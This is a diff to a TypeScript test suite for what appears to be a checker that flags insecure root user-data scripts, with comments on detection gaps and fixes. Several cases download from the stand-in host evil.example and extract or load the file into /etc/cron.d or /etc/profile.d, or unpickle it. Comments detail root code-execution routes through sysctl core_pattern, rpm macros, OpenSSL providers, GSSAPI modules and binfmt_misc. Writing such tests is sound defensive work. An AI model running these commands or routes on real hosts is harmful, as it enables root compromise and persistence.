@@ -233,12 +233,11 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: (M-OPERAND) insecure accepted, got []. Python docs "pydoc": "In order to find objects and their documentation, pydoc imports the module(s) to be documented. Therefore, any code on module level will be executed"; an argument containing a path separator "is treated as a path to a Python source file": the tarball's x.py runs as root. The pack: PYTHON_OPERAND_RUNNERS (pythonCode.ts, read in pythonEntry) lists unittest|doctest|pdb|cProfile|profile|trace|timeit|runpy|pytest, not pydoc (its comment: "pydoc's server (-p/-n) is read by the server readers"), so `-m pydoc FILE` is stdlib code. Fix: pydoc's documenting forms (a name or path operand; -w) import their operand: in PYTHON_OPERAND_RUNNERS unless the operand is a module the pack reads; more generally, a stdlib -m module with operands is read only when it is on a reviewed list of operand-safe CLIs (json.tool, base64, calendar, ...).
+    // Was a MISS (fixed in round 80): (M-OPERAND) insecure accepted, got []. Python docs "pydoc": "In order to find objects and their documentation, pydoc imports the module(s) to be documented. Therefore, any code on module level will be executed"; an argument containing a path separator "is treated as a path to a Python source file": the tarball's x.py runs as root. The pack: PYTHON_OPERAND_RUNNERS (pythonCode.ts, read in pythonEntry) lists unittest|doctest|pdb|cProfile|profile|trace|timeit|runpy|pytest, not pydoc (its comment: "pydoc's server (-p/-n) is read by the server readers"), so `-m pydoc FILE` is stdlib code. Fix: pydoc's documenting forms (a name or path operand; -w) import their operand: in PYTHON_OPERAND_RUNNERS unless the operand is a module the pack reads; more generally, a stdlib -m module with operands is read only when it is on a reviewed list of operand-safe CLIs (json.tool, base64, calendar, ...).
     dev(
         "user data: python3 -m pydoc /var/cache/ops/lib/x.py (pydoc imports a path operand)",
         sh("dev-py80-m-pydoc-path-rt80p", [...untar("/var/cache/ops/lib"), "python3 -m pydoc /var/cache/ops/lib/x.py"]),
         REFUSED,
-        true,
     ),
     // Held: "The Python Profilers" `python -m profile SCRIPT` runs the script: PYTHON_OPERAND_RUNNERS (round 78).
     dev(
@@ -246,7 +245,7 @@ const insecure: NodeCase[] = [
         sh("dev-py80-m-profile-rt80p", [...untar("/var/cache/ops/lib"), "python3 -m profile /var/cache/ops/lib/x.py"]),
         REFUSED,
     ),
-    // MISS: (M-OPERAND-WRITE) insecure accepted, got []. Python docs "zipfile" Command-Line Interface: `-e <zipfile> <output_dir>` "Extract zipfile into target directory": the download's members become files of /etc/cron.d (crontab(5)): any root job. The pack reads `python -m zipfile` as stdlib code and never judges its operands as writes (pythonEntry; the Python writers are judged in code, zipfile.ZipFile.extractall, not on the command line). Fix: the stdlib CLIs that write their operands (zipfile -e/-c, tarfile -e/-c, json.tool's outfile (held below by the shell reader), gzip/-d, compileall -d, zipapp -o) judged as writes of the named path (an extraction: any file under the directory), or the same allowlist of operand-safe CLIs as the pydoc case.
+    // Was a MISS (fixed in round 80): (M-OPERAND-WRITE) insecure accepted, got []. Python docs "zipfile" Command-Line Interface: `-e <zipfile> <output_dir>` "Extract zipfile into target directory": the download's members become files of /etc/cron.d (crontab(5)): any root job. The pack reads `python -m zipfile` as stdlib code and never judges its operands as writes (pythonEntry; the Python writers are judged in code, zipfile.ZipFile.extractall, not on the command line). Fix: the stdlib CLIs that write their operands (zipfile -e/-c, tarfile -e/-c, json.tool's outfile (held below by the shell reader), gzip/-d, compileall -d, zipapp -o) judged as writes of the named path (an extraction: any file under the directory), or the same allowlist of operand-safe CLIs as the pydoc case.
     dev(
         "user data: python3 -m zipfile -e downloaded.zip /etc/cron.d/ (zipfile's CLI extracts into root's cron)",
         sh("dev-py80-m-zipfile-extract-rt80p", [
@@ -254,9 +253,8 @@ const insecure: NodeCase[] = [
             "python3 -m zipfile -e /var/cache/ops/c.zip /etc/cron.d/",
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (M-OPERAND-WRITE) insecure accepted, got []. Python docs "tarfile" Command-Line Interface: `-e <tarfile> [<output_dir>]` "Extract tarfile into the current directory if output_dir is not specified" (3.9: no extraction filter): the members land in /etc/cron.d (crontab(5)). Same place and fix as the zipfile case.
+    // Was a MISS (fixed in round 80): (M-OPERAND-WRITE) insecure accepted, got []. Python docs "tarfile" Command-Line Interface: `-e <tarfile> [<output_dir>]` "Extract tarfile into the current directory if output_dir is not specified" (3.9: no extraction filter): the members land in /etc/cron.d (crontab(5)). Same place and fix as the zipfile case.
     dev(
         "user data: python3 -m tarfile -e downloaded.tgz /etc/cron.d/",
         sh("dev-py80-m-tarfile-extract-rt80p", [
@@ -264,7 +262,6 @@ const insecure: NodeCase[] = [
             "python3 -m tarfile -e /var/cache/ops/c.tgz /etc/cron.d/",
         ]),
         REFUSED,
-        true,
     ),
     // Held: python(1) with no script reads the program from standard input (Python docs "Command line and environment": "-" or stdin): the downloaded x.py runs as root; refused as a program from standard input the pack does not know.
     dev(
@@ -282,6 +279,10 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // MISS: (CWD-ROOT-ARCHIVE) insecure accepted, got []. Python docs "Command line and environment", -m: "As with the -c option, the current directory will be added to the start of sys.path" (sys.path docs: before the standard library): the tarball's json package runs as root instead of the stdlib's. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
+    // Still open (round 80): judging the -m module with pythonRootShadowed over [cwd, ...] fixed these but refused
+    // redteam72-nsec's dev-nsec-ok21a-rt73 (`sh -c 'mkdir -p D && cd D && python3 -m http.server'`: view.changed counts an
+    // unmodelled root command as changing every file, so every cwd looked extracted). Needs: the directories an archive was
+    // extracted into (tar -C, unzip -d) as their own set, judged for the -m module's top package; reverted in time.
     dev(
         "user data: cd tarball dir && python3 -m json.tool f (cwd first on sys.path shadows json)",
         sh("dev-py80-m-cwd-shadow-rt80p", [
@@ -292,7 +293,7 @@ const insecure: NodeCase[] = [
         REFUSED,
         true,
     ),
-    // MISS: (CWD-ROOT-ARCHIVE) insecure accepted, got []. Python docs "-c <command>": "the first element of sys.path will be the current directory" (`cd D || exit 1`: the round-80 cd set says D): the tarball's json.py runs as root. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
+    // Was a MISS (fixed in round 80): (CWD-ROOT-ARCHIVE) insecure accepted, got []. Python docs "-c <command>": "the first element of sys.path will be the current directory" (`cd D || exit 1`: the round-80 cd set says D): the tarball's json.py runs as root. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
     dev(
         "user data: cd tarball dir || exit; python3 -c 'import json' (cwd on sys.path for -c)",
         sh("dev-py80-c-cwd-shadow-exit-rt80p", [
@@ -301,9 +302,12 @@ const insecure: NodeCase[] = [
             "python3 -c 'import json; print(json.dumps(1))'",
         ]),
         REFUSED,
-        true,
     ),
     // MISS: (CWD-ROOT-ARCHIVE) insecure accepted, got []. bash(1) "Lists": `[ -d D ] && cd D` leaves the cwd D when the test succeeds (the round-80 set {/var/lib/ops, D}); Python docs -m: the cwd first on sys.path: the tarball's json runs as root. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
+    // Still open (round 80): judging the -m module with pythonRootShadowed over [cwd, ...] fixed these but refused
+    // redteam72-nsec's dev-nsec-ok21a-rt73 (`sh -c 'mkdir -p D && cd D && python3 -m http.server'`: view.changed counts an
+    // unmodelled root command as changing every file, so every cwd looked extracted). Needs: the directories an archive was
+    // extracted into (tar -C, unzip -d) as their own set, judged for the -m module's top package; reverted in time.
     dev(
         "user data: [ -d tarball ] && cd tarball; python3 -m json.tool (the cwd may be the tarball)",
         sh("dev-py80-m-cwd-maybe-rt80p", [
@@ -316,7 +320,7 @@ const insecure: NodeCase[] = [
         REFUSED,
         true,
     ),
-    // MISS: (X-OPTION) insecure accepted, got []. Python docs "sys.pycache_prefix": "If this is set (not None), Python will write bytecode-cache .pyc files to (and read them from) a parallel directory tree rooted at this directory, rather than from __pycache__ directories"; -X pycache_prefix=PATH sets it (Python 3.8 What's New: "PYTHONPYCACHEPREFIX setting (also available as -X pycache_prefix)"): the tarball's usr/lib64/python3.9/json/__pycache__ bytecode runs as root. The twin PYTHONPYCACHEPREFIX is refused (PYTHON_ENVIRONMENT "unread"); pythonInvocation takes -X's value and drops it. Fix: read -X options as their variables (pycache_prefix = PYTHONPYCACHEPREFIX, importtime/dev/utf8/faulthandler/tracemalloc harmless), an unknown -X fails closed.
+    // Was a MISS (fixed in round 80): (X-OPTION) insecure accepted, got []. Python docs "sys.pycache_prefix": "If this is set (not None), Python will write bytecode-cache .pyc files to (and read them from) a parallel directory tree rooted at this directory, rather than from __pycache__ directories"; -X pycache_prefix=PATH sets it (Python 3.8 What's New: "PYTHONPYCACHEPREFIX setting (also available as -X pycache_prefix)"): the tarball's usr/lib64/python3.9/json/__pycache__ bytecode runs as root. The twin PYTHONPYCACHEPREFIX is refused (PYTHON_ENVIRONMENT "unread"); pythonInvocation takes -X's value and drops it. Fix: read -X options as their variables (pycache_prefix = PYTHONPYCACHEPREFIX, importtime/dev/utf8/faulthandler/tracemalloc harmless), an unknown -X fails closed.
     dev(
         "user data: python3 -X pycache_prefix=tarball dir tune.py (stdlib bytecode read from the tarball)",
         sh("dev-py80-pycache-prefix-x-rt80p", [
@@ -325,7 +329,6 @@ const insecure: NodeCase[] = [
             "python3 -X pycache_prefix=/var/cache/ops/pyc /opt/ops/tune.py",
         ]),
         REFUSED,
-        true,
     ),
     // Held: Python docs "PYTHONPYCACHEPREFIX" (bytecode read from that tree): refused as a variable the pack does not follow.
     dev(
@@ -419,6 +422,12 @@ const insecure: NodeCase[] = [
     ),
     // ===== F. configuration in data paths the node reads =====
     // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. sysctl.d(5): "/etc/sysctl.d/*.conf /run/sysctl.d/*.conf /usr/lib/sysctl.d/*.conf"; procps sysctl(8) --system loads them; core(5): kernel.core_pattern starting with | runs the program "as the user and group root" on every core dump (any pod can crash a process). The shell reader knows /run/sysctl.d (KERNEL_SETTING_FILE, writtenSysctls) but the Python writer does not. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
+    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
+    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
+    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
+    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
+    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
+    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
     dev(
         "tune.py writes /run/sysctl.d/99-ops.conf (core_pattern pipe), then sysctl --system",
         tune(
@@ -454,6 +463,12 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. rpm docs "Macro syntax" (%(shell command) expands to the command's output) and the macro path (/etc/rpm/macros.*, read by every rpm and dnf run): the later `dnf install` as root runs the download through sh. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
+    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
+    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
+    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
+    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
+    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
+    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
     dev(
         "tune.py writes /etc/rpm/macros.ops (a %(shell) macro), then dnf install",
         tune(
@@ -479,7 +494,7 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: (M-OPERAND) insecure accepted, got []. CPython Lib/pickle.py `_main` (`python -m pickle FILE...`: "display contents of the pickle files", pickle.load of each) and Python docs "pickle": "It is possible to construct malicious pickle data which will execute arbitrary code during unpickling": the download runs as root. PYTHON_OPERAND_RUNNERS lacks pickle (pickle is PYTHON_DYNAMIC_NAMES in code, not as -m). Fix: as the pydoc case (pickle, shelve-free loaders, `-m pickle` in the list).
+    // Was a MISS (fixed in round 80): (M-OPERAND) insecure accepted, got []. CPython Lib/pickle.py `_main` (`python -m pickle FILE...`: "display contents of the pickle files", pickle.load of each) and Python docs "pickle": "It is possible to construct malicious pickle data which will execute arbitrary code during unpickling": the download runs as root. PYTHON_OPERAND_RUNNERS lacks pickle (pickle is PYTHON_DYNAMIC_NAMES in code, not as -m). Fix: as the pydoc case (pickle, shelve-free loaders, `-m pickle` in the list).
     dev(
         "user data: python3 -m pickle downloaded.pkl (pickle's CLI unpickles)",
         sh("dev-py80-m-pickle-rt80p", [
@@ -487,7 +502,6 @@ const insecure: NodeCase[] = [
             "python3 -m pickle /var/cache/ops/x.pkl",
         ]),
         REFUSED,
-        true,
     ),
     // Held: Python docs "json.tool" (`python -m json.tool infile outfile`: "Write the output of the infile to the given outfile"): the download's text becomes /etc/profile.d/ops.sh, sourced by root's login shells (bash(1) INVOCATION); refused by the shell reader (a write of /etc/profile.d by a program it does not read).
     dev(
@@ -499,6 +513,10 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // MISS: (CWD-ROOT-ARCHIVE) insecure accepted, got []. systemd.exec(5) "WorkingDirectory=": "Takes a directory path relative to the service's root directory ... Sets the working directory for executed processes"; Python docs -m: the cwd first on sys.path: the tarball's json runs as root at every start. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does. (Here the cwd comes from the unit's WorkingDirectory=.)
+    // Still open (round 80): judging the -m module with pythonRootShadowed over [cwd, ...] fixed these but refused
+    // redteam72-nsec's dev-nsec-ok21a-rt73 (`sh -c 'mkdir -p D && cd D && python3 -m http.server'`: view.changed counts an
+    // unmodelled root command as changing every file, so every cwd looked extracted). Needs: the directories an archive was
+    // extracted into (tar -C, unzip -d) as their own set, judged for the -m module's top package; reverted in time.
     dev(
         "unit: WorkingDirectory=tarball dir, ExecStart=python3 -m json.tool (cwd shadows json)",
         sh("dev-py80-unit-workdir-m-rt80p", [
@@ -571,6 +589,12 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. AL2023's /etc/pki/tls/openssl.cnf includes /etc/crypto-policies/back-ends/opensslcnf.config (crypto-policies(7) back-ends); OpenSSL docs config(5) "Provider Configuration": a section's `module` is the provider's shared library and `activate = 1` loads it: every root process using OpenSSL's default config (curl, dnf, sshd, python's ssl) loads the downloaded p.so. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
+    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
+    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
+    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
+    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
+    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
+    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
     dev(
         "tune.py writes /etc/crypto-policies/back-ends/opensslcnf.config (an OpenSSL provider module)",
         tune(
@@ -585,6 +609,12 @@ const insecure: NodeCase[] = [
         true,
     ),
     // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. MIT Kerberos docs "GSSAPI mechanism modules" (/etc/gss/mech and /etc/gss/mech.d/*.conf: "mechanism-name OID pathname-to-shared-library"): libgssapi_krb5 loads the library in every GSSAPI user, sshd among them (GSSAPIAuthentication, on in Fedora-family defaults): the download's m.so runs in root's sshd. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
+    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
+    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
+    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
+    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
+    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
+    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
     dev(
         "tune.py writes /etc/gss/mech.d/ops.conf (a GSSAPI mechanism library sshd loads)",
         tune(
@@ -600,6 +630,12 @@ const insecure: NodeCase[] = [
         true,
     ),
     // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. binfmt.d(5): "/etc/binfmt.d/*.conf /run/binfmt.d/*.conf /usr/lib/binfmt.d/*.conf" registered by systemd-binfmt; kernel docs "binfmt_misc" flag C ("Credentials ... calculate the credentials and security token of the new process according to the binary instead of the interpreter") with interpreter /var/cache/ops/i: every .opsx file runs the download. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
+    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
+    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
+    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
+    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
+    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
+    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
     dev(
         "tune.py writes /run/binfmt.d/ops.conf (an interpreter with the C flag), systemctl restart systemd-binfmt",
         tune(
@@ -668,6 +704,58 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
 
+    // Neighbour (round 80, M-OPERAND): Python docs "gzip" Command-Line Interface (`-d` decompresses FILE beside it): a
+    // standard module's CLI not reviewed as safe with operands fails closed (pythonModuleRunUnread).
+    dev(
+        "user data: python3 -m gzip -d downloaded.gz (a standard CLI not reviewed with operands)",
+        sh("dev-py80-m-gzip-d-fix80", [
+            "curl -fsSLo /var/cache/ops/x.py.gz https://evil.example/x.py.gz",
+            "python3 -m gzip -d /var/cache/ops/x.py.gz",
+        ]),
+        REFUSED,
+    ),
+    // Neighbour (round 80, M-OPERAND-WRITE): Python docs "zipfile" CLI `-e` into /etc/profile.d (bash(1) INVOCATION: root's
+    // login shells source it): members of any name there.
+    dev(
+        "user data: python3 -m zipfile -e downloaded.zip /etc/profile.d",
+        sh("dev-py80-m-zipfile-profile-d-fix80", [
+            "curl -fsSLo /var/cache/ops/c.zip https://evil.example/c.zip",
+            "python3 -m zipfile -e /var/cache/ops/c.zip /etc/profile.d",
+        ]),
+        REFUSED,
+    ),
+    // Neighbour (round 80, CWD-ROOT-ARCHIVE): Python docs "-c": the cwd first on sys.path; the tarball there may hold
+    // json.py.
+    dev(
+        "user data: cd tarball dir && python3 -c 'import json'",
+        sh("dev-py80-c-cwd-and-fix80", [
+            ...untar("/var/cache/ops/src"),
+            "cd /var/cache/ops/src && python3 -c 'import json; print(json.dumps(1))'",
+        ]),
+        REFUSED,
+    ),
+    // Neighbour (round 80, X-OPTION): an -X option the pack does not know (Python docs "-X": "Reserved for various
+    // implementation-specific options"): fail closed.
+    dev(
+        "user data: python3 -X frobnicate tune.py (an unknown -X option)",
+        sh("dev-py80-x-unknown-fix80", [
+            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
+            "python3 -X frobnicate /opt/ops/tune.py",
+        ]),
+        REFUSED,
+    ),
+    // Neighbour (round 80, PIP-CONFIG-READ): pip docs "pip config" `edit` ("Edit the configuration file in an editor"): the
+    // file may then name another index; trust withdrawn, tenacity unread.
+    dev(
+        "user data: pip3 config --global edit; pip3 install tenacity",
+        sh("dev-py80-pip-config-edit-fix80", [
+            "EDITOR=true pip3 config --global edit",
+            "pip3 install tenacity",
+            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
+            "python3 /opt/ops/tune.py",
+        ]),
+        REFUSED,
+    ),
     // Held (control of the CWD-ROOT-ARCHIVE class): Python docs -c: the cwd first on sys.path; the curl'd json.py there shadows the stdlib: refused ("a directory on its import path before the library's may hold a file user data downloaded").
     dev(
         "user data: curl json.py into /var/cache/ops/lib; cd there && python3 -c 'import json' (a single downloaded file)",
@@ -875,6 +963,12 @@ const secure: NodeCase[] = [
         ]),
     ),
     // MISS: (UV-DEFAULT) secure refused: "imports tenacity, a module user data did not write and the pack does not know". uv docs "uv pip install" (default index https://pypi.org/simple, the same as pip's) with no uv.toml, UV_* variable or --index option: the same default-index install the pack trusts for pip (DECIDED round 74). scriptPipModules (pythonCode.ts) trusts pip words only. Fix: read `uv pip install` like pip (its --index-url/--extra-index-url/--find-links/--index options and /etc/uv/uv.toml, XDG uv.toml, a uv.toml/pyproject.toml in the cwd or its parents withdraw trust) - or record a decision that uv is untrusted.
+    // DECIDED (round 80): uv installs are never trusted. uv docs "Configuration files": uv reads a uv.toml or a
+    // pyproject.toml [tool.uv] "in the current directory, or in the nearest parent directory", then ~/.config/uv or
+    // $XDG_CONFIG_HOME/uv, then /etc/uv/uv.toml or $XDG_CONFIG_DIRS/uv (docs "Storage"), and UV_ variables; each may set
+    // another index. Reading it like pip needs every ancestor of the run's cwd (which the pack does not always know) free of
+    // such a file user data wrote, changed or extracted, plus uv's own index options: not sound in the time given, so the
+    // install stays untrusted (fail closed; pip from the default index is the trusted idiom).
     dev(
         "user data: pip3 install uv==0.4.30; uv pip install --system tenacity (default index, no config)",
         sh("dev-py80-uv-default-rt80p", [
@@ -886,7 +980,7 @@ const secure: NodeCase[] = [
         undefined,
         true,
     ),
-    // MISS: (PIP-CONFIG-READ) secure refused: "imports tenacity, a module user data did not write". pip docs "pip config": `list` "List the active configuration (or from the file specified)" only reads; the following default-index install is trusted (round 74). scriptPipModules withdraws pip trust on any `pip config`. Fix: only `pip config set/unset/edit` (and --editor) change pip's configuration; list/get/debug read it.
+    // Was a MISS (fixed in round 80): (PIP-CONFIG-READ) secure refused: "imports tenacity, a module user data did not write". pip docs "pip config": `list` "List the active configuration (or from the file specified)" only reads; the following default-index install is trusted (round 74). scriptPipModules withdraws pip trust on any `pip config`. Fix: only `pip config set/unset/edit` (and --editor) change pip's configuration; list/get/debug read it.
     dev(
         "user data: pip3 config list (read only); pip3 install tenacity",
         sh("dev-py80-pip-config-list-rt80p", [
@@ -896,7 +990,6 @@ const secure: NodeCase[] = [
             "python3 /opt/ops/tune.py",
         ]),
         undefined,
-        true,
     ),
     // Secure: Python docs "json.tool" outfile /var/lib/ops/x.json, its own state.
     dev(
@@ -967,6 +1060,41 @@ const secure: NodeCase[] = [
             "import click, numpy",
             'print(click.open_file("/etc/hostname").read())',
             'numpy.savetxt("stats.csv", numpy.arange(3))',
+        ]),
+    ),
+    // Neighbour (round 80, M-OPERAND-WRITE): Python docs "zipfile" CLI `-l` ("List files in a zipfile"): reads only.
+    dev(
+        "user data: python3 -m zipfile -l downloaded.zip (lists)",
+        sh("dev-py80-m-zipfile-list-fix80", [
+            "curl -fsSLo /var/cache/ops/c.zip https://evil.example/c.zip",
+            "python3 -m zipfile -l /var/cache/ops/c.zip",
+        ]),
+    ),
+    // Neighbour (round 80, CWD-ROOT-ARCHIVE): Python docs "-I": the cwd is not on sys.path for -m either.
+    dev(
+        "user data: cd tarball dir && python3 -I -m json.tool f (isolated)",
+        sh("dev-py80-m-isolated-cwd-fix80", [
+            ...untar("/var/cache/ops/src"),
+            ...heredocFile("/etc/ops/x.json", ["{}"]),
+            "cd /var/cache/ops/src && python3 -I -m json.tool /etc/ops/x.json",
+        ]),
+    ),
+    // Neighbour (round 80, X-OPTION): Python docs "-X utf8" (PYTHONUTF8) and "-X faulthandler" (PYTHONFAULTHANDLER).
+    dev(
+        "user data: python3 -X utf8 -X faulthandler tune.py",
+        sh("dev-py80-x-utf8-fix80", [
+            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
+            "python3 -X utf8 -X faulthandler /opt/ops/tune.py",
+        ]),
+    ),
+    // Neighbour (round 80, PIP-CONFIG-READ): pip docs "pip config" `get` reads a value; the default-index install stays trusted.
+    dev(
+        "user data: pip3 config get global.index-url || true; pip3 install tenacity",
+        sh("dev-py80-pip-config-get-fix80", [
+            "pip3 config get global.index-url || true",
+            "pip3 install tenacity",
+            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
+            "python3 /opt/ops/tune.py",
         ]),
     ),
 ];
